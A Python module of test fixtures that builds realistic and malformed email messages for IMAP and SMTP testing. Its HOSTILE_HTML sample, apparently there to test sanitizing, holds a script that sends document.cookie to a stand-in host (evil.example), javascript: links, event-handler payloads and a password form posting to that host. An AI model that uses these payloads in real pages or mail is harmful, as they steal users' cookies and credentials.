"""Builders of realistic test messages (standard ``email`` package) and raw bytes for APPEND/SMTP.

Builders return ``EmailMessage``; ``to_bytes()`` gives the wire form (CRLF line ends), which is
what an IMAP server hands back byte for byte. ``malformed_message()`` and ``realistic_mix()``
return bytes directly.
"""

from __future__ import annotations

import datetime as dt
import random
import uuid
from collections.abc import Iterator, Sequence
from email import policy
from email.headerregistry import Address
from email.message import EmailMessage
from email.utils import format_datetime

SMTP_POLICY = policy.SMTP  # CRLF line ends, RFC 2047/2231 encoding of non-ASCII, lines folded

ALICE = Address("Alice Example", "alice", "example.com")
BOB = Address("Bob Example", "bob", "example.org")
ZOE = Address("Zoë Ångström-Øberg", "zoe", "example.net")  # non-ASCII display name (RFC 2047)
JUERGEN = Address("Jürgen Müller", "juergen", "example.de")

# A 1x1 transparent PNG, so inline images are real images.
PNG_1X1 = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000100e221bc330000000049454e44ae426082"
)

LOREM = (
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut "
    "labore et dolore magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco "
    "laboris nisi ut aliquip ex ea commodo consequat. Duis aute irure dolor in reprehenderit in "
    "voluptate velit esse cillum dolore eu fugiat nulla pariatur."
)


def make_message_id(domain: str = "example.com") -> str:
    return f"<{uuid.uuid4().hex}@{domain}>"


def to_bytes(message: EmailMessage) -> bytes:
    """The wire form: CRLF line ends and every non-ASCII header encoded."""
    # EmailMessage stamps MIME-Version on every part it creates; real clients put it on top only.
    for part in message.walk():
        if part is not message:
            del part["MIME-Version"]
    return message.as_bytes(policy=SMTP_POLICY)


def _base(
    subject: str,
    sender: Address | str,
    to: Address | str | Sequence[Address | str],
    *,
    date: dt.datetime | None,
    message_id: str | None,
    in_reply_to: str | None,
    references: Sequence[str] | None,
    cc: Sequence[Address | str] = (),
) -> EmailMessage:
    msg = EmailMessage(policy=SMTP_POLICY)
    msg["From"] = sender
    msg["To"] = to if isinstance(to, Address | str) else list(to)
    if cc:
        msg["Cc"] = list(cc)
    msg["Subject"] = subject
    msg["Date"] = format_datetime(date or dt.datetime.now(dt.UTC))
    msg["Message-ID"] = message_id or make_message_id()
    if in_reply_to:
        msg["In-Reply-To"] = in_reply_to
    if references:
        msg["References"] = " ".join(references)
    msg["MIME-Version"] = "1.0"
    return msg


def plain_message(
    subject: str = "Quarterly report",
    body: str = f"Hi Bob,\n\n{LOREM}\n\nAlice\n",
    *,
    sender: Address | str = ALICE,
    to: Address | str | Sequence[Address | str] = BOB,
    cc: Sequence[Address | str] = (),
    date: dt.datetime | None = None,
    message_id: str | None = None,
    in_reply_to: str | None = None,
    references: Sequence[str] | None = None,
) -> EmailMessage:
    msg = _base(
        subject,
        sender,
        to,
        cc=cc,
        date=date,
        message_id=message_id,
        in_reply_to=in_reply_to,
        references=references,
    )
    msg.set_content(body)
    return msg


HOSTILE_HTML = """\
<html><head><title>Offer</title>
<script>document.location='https://evil.example/steal?c='+document.cookie</script>
<style>body { font-family: sans-serif }</style></head>
<body onload="alert('load')">
<p>Dear customer, <b>your invoice</b> is ready.</p>
<p><a href="javascript:alert('xss')">View invoice</a>
 <a href="https://example.com/ok" onclick="steal()">Safe link with handler</a>
 <a href="JaVaScRiPt:alert(1)">Mixed-case scheme</a></p>
<img src="x" onerror="alert('img')">
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/post"><input name="password"></form>
</body></html>
"""


def html_message(
    subject: str = "Your invoice",
    html: str = HOSTILE_HTML,
    text: str = "Dear customer, your invoice is ready.\nView it at https://example.com/ok\n",
    *,
    sender: Address | str = ALICE,
    to: Address | str | Sequence[Address | str] = BOB,
    date: dt.datetime | None = None,
    message_id: str | None = None,
) -> EmailMessage:
    """multipart/alternative: plain text plus HTML with script, event handlers and javascript: links."""
    msg = _base(subject, sender, to, date=date, message_id=message_id, in_reply_to=None, references=None)
    msg.set_content(text)
    msg.add_alternative(html, subtype="html")
    return msg


ATTACHMENT_NAME = "Résumé – Ünïcödé 2024.pdf"  # non-ASCII: encoded per RFC 2231 (filename*=utf-8''...)


def attachments_message(
    subject: str = "Photos and the contract",
    *,
    sender: Address | str = ALICE,
    to: Address | str | Sequence[Address | str] = BOB,
    date: dt.datetime | None = None,
    message_id: str | None = None,
    inline_cid: str = "logo-1@example.com",
    attachments: Sequence[tuple[str, str, bytes]] | None = None,
) -> EmailMessage:
    """multipart/mixed[ multipart/alternative[ text, multipart/related[ html, inline image (cid) ] ],
    attachments... ] -- the shape mail clients produce.

    ``attachments`` are ``(filename, mime_type, data)``; the default is a PDF with a non-ASCII
    name and a plain-text file.
    """
    if attachments is None:
        attachments = [
            (ATTACHMENT_NAME, "application/pdf", b"%PDF-1.4\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"),
            ("notes.txt", "text/plain", b"plain attachment\r\nsecond line\r\n"),
        ]
    msg = _base(subject, sender, to, date=date, message_id=message_id, in_reply_to=None, references=None)
    msg.set_content("See the logo and the attached files.\n")
    msg.add_alternative(f'<p>See the logo: <img src="cid:{inline_cid}" alt="logo"></p>', subtype="html")
    html_part = msg.get_payload()[1]
    html_part.add_related(PNG_1X1, "image", "png", cid=f"<{inline_cid}>", filename="logo.png", disposition="inline")
    for filename, mime_type, data in attachments:
        maintype, subtype = mime_type.split("/", 1)
        if maintype == "text":
            msg.add_attachment(data.decode(), subtype=subtype, filename=filename)
        else:
            msg.add_attachment(data, maintype, subtype, filename=filename)
    return msg


def international_message(
    subject: str = "Grüße aus Zürich – 東京の会議 📅",
    *,
    sender: Address | str = ZOE,
    to: Address | str | Sequence[Address | str] = JUERGEN,
    date: dt.datetime | None = None,
    message_id: str | None = None,
) -> EmailMessage:
    """Non-ASCII subject and display names (RFC 2047 in the wire form) and a UTF-8 body."""
    msg = _base(subject, sender, to, date=date, message_id=message_id, in_reply_to=None, references=None)
    msg.set_content("Grüße! Das Treffen in 東京 ist am Montag. Ça va? Ñandú. Здравствуйте.\n")
    return msg


def thread(
    count: int = 3,
    *,
    subject: str = "Project kickoff",
    start: dt.datetime | None = None,
    participants: Sequence[Address] = (ALICE, BOB),
) -> list[EmailMessage]:
    """A conversation: each reply has In-Reply-To its parent and References to the whole chain."""
    start = start or dt.datetime(2024, 1, 15, 9, 0, tzinfo=dt.UTC)
    messages: list[EmailMessage] = []
    ids: list[str] = []
    for i in range(count):
        sender = participants[i % len(participants)]
        to = participants[(i + 1) % len(participants)]
        msg = plain_message(
            subject if i == 0 else f"Re: {subject}",
            f"Message {i + 1} of the thread.\n\n{LOREM}\n" + "".join(f"> earlier {j}\n" for j in range(i)),
            sender=sender,
            to=to,
            date=start + dt.timedelta(hours=i),
            in_reply_to=ids[-1] if ids else None,
            references=list(ids) or None,
        )
        ids.append(msg["Message-ID"])
        messages.append(msg)
    return messages


def long_line_message(subject: str, line: str) -> bytes:
    """An HTML message whose body is ``line`` on one unwrapped line, as some senders write them.

    Built by hand: the ``email`` package would fold or encode a long line; this is what arrives.
    """
    head = (
        f"From: {ALICE}\r\nTo: {BOB}\r\nSubject: {subject}\r\nDate: Mon, 02 Mar 2026 10:00:00 +0000\r\n"
        f"Message-ID: {make_message_id()}\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=us-ascii\r\n"
        "Content-Transfer-Encoding: 7bit\r\n\r\n"
    )
    return (head + f"<p>{line}</p>\r\n").encode("ascii")


def malformed_message() -> bytes:
    """A message that breaks the rules in many ways yet must still be stored and synced.

    Broken: unterminated and mismatched MIME boundaries, an unknown charset, invalid base64 and
    quoted-printable, raw 8-bit bytes in headers and body, an unterminated RFC 2047 word, an
    unparseable date and addresses, duplicate Subject and Content-Type, a malformed RFC 2231
    parameter, control bytes. No NUL bytes and no bare CR/LF: IMAP APPEND would refuse or rewrite them.
    """
    lines = [
        b'From: "Broken Sender <broken@@example..com',
        b"To: undisclosed-recipients:;, <not an address>, bob@",
        b"Subject: =?x-no-such-charset?B?SGVsbG8gV29ybGQ=?= and =?utf-8?Q?unterminated_word",
        b"Subject: second subject header",
        b"Date: Thirtysecond of Smarch, year unknown",
        b"Message-ID: no-angle-brackets@example.com",
        b"X-Latin1-Header: caf\xe9 cr\xe8me br\xfbl\xe9e",
        b"X-Empty:",
        b"MIME-Version: 1.0 (or maybe 2.0)",
        b'Content-Type: multipart/mixed; boundary="outer-boundary"',
        b"Content-Type: text/plain",
        b"",
        b"Preamble text that nobody reads.",
        b"--outer-boundary",
        b"Content-Type: text/plain; charset=x-no-such-charset",
        b"Content-Transfer-Encoding: quoted-printable",
        b"",
        b"Broken quoted-printable =ZZ and =4 and a soft break =",
        b"raw latin-1 bytes: \xe9\xe8\xea and invalid utf-8: \xc3\x28 \xff\xfe",
        b"--outer-boundaryX",
        b'Content-Type: multipart/alternative; boundary="inner"',
        b"",
        b"--inner",
        b'Content-Type: text/html; charset="utf-8"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b"!!!this is not base64***",
        b"PGI+aGFsZiB2YWxpZA",
        b"--inner",
        b"Content-Type: application/octet-stream; name=",
        b"Content-Disposition: attachment; filename*=utf-8''%E9%ZZ.bin",
        b"Content-Transfer-Encoding: x-unknown",
        b"",
        b"\x01\x02\x03 control bytes in a body",
        b"--outer-boundary",
        b"Content-Type: image/png",
        b"",
        b"the last part never ends and no closing boundary follows",
        b"",
    ]
    return b"\r\n".join(lines)


_WORDS = (LOREM.replace(",", "").replace(".", "").lower().split()) + [
    "invoice",
    "meeting",
    "deadline",
    "report",
    "Zürich",
    "café",
    "naïve",
    "東京",
]


def _text(rng: random.Random, size: int) -> str:
    words: list[str] = []
    length = 0
    while length < size:
        word = rng.choice(_WORDS)
        words.append(word)
        length += len(word) + 1
    # Lines of about 12 words, paragraphs of about 5 lines.
    lines = [" ".join(words[i : i + 12]) for i in range(0, len(words), 12)]
    return "\n".join(line + ("\n" if n % 5 == 4 else "") for n, line in enumerate(lines)) + "\n"


def realistic_mix(count: int, *, seed: int = 0, start: dt.datetime | None = None) -> Iterator[bytes]:
    """``count`` varied messages as wire bytes, deterministic for a seed (for benchmarks).

    Mostly small plain or HTML mails (0.5-20 KB of text, a few up to about 100 KB), threads of
    replies, non-ASCII subjects now and then, and round(count/10) messages carrying one or two
    attachments of 5-300 KB.
    """
    rng = random.Random(seed)
    start = start or dt.datetime(2024, 1, 1, 8, 0, tzinfo=dt.UTC)
    with_attachments = set(rng.sample(range(count), round(count / 10))) if count else set()
    senders = [ALICE, BOB, ZOE] + [Address(f"Person {i}", f"person{i}", "example.com") for i in range(20)]
    recent_ids: list[str] = []
    for i in range(count):
        date = start + dt.timedelta(minutes=17 * i + rng.randint(0, 16))
        sender = rng.choice(senders)
        to = rng.choice([s for s in senders if s is not sender])
        size = int(rng.choice([500, 1500, 3000, 6000, 12000, 20000, 100000]) * rng.uniform(0.6, 1.0))
        subject = rng.choice(["Status update", "Lunch?", f"Invoice 2024-{i:03d}", "Grüße – 会議", "Re: plans"])
        reply_to = rng.choice(recent_ids) if recent_ids and rng.random() < 0.3 else None
        body = _text(rng, size)
        msg = plain_message(
            f"{subject} #{i}",
            body,
            sender=sender,
            to=to,
            date=date,
            in_reply_to=reply_to,
            references=[reply_to] if reply_to else None,
        )
        if rng.random() < 0.35:
            msg.add_alternative(
                "<html><body>" + "".join(f"<p>{p}</p>" for p in body.split("\n\n")) + "</body></html>",
                subtype="html",
            )
        if i in with_attachments:
            for n in range(rng.choice([1, 1, 2])):
                data = rng.randbytes(rng.randint(5_000, 300_000))
                name = rng.choice(["scan.pdf", "photo.jpg", "data.bin", "Übersicht.xlsx"])
                maintype, subtype = {
                    "pdf": ("application", "pdf"),
                    "jpg": ("image", "jpeg"),
                    "bin": ("application", "octet-stream"),
                    "xlsx": ("application", "vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
                }[name.rsplit(".", 1)[1]]
                msg.add_attachment(data, maintype, subtype, filename=f"{n}-{name}")
        recent_ids = (recent_ids + [msg["Message-ID"]])[-20:]
        yield to_bytes(msg)
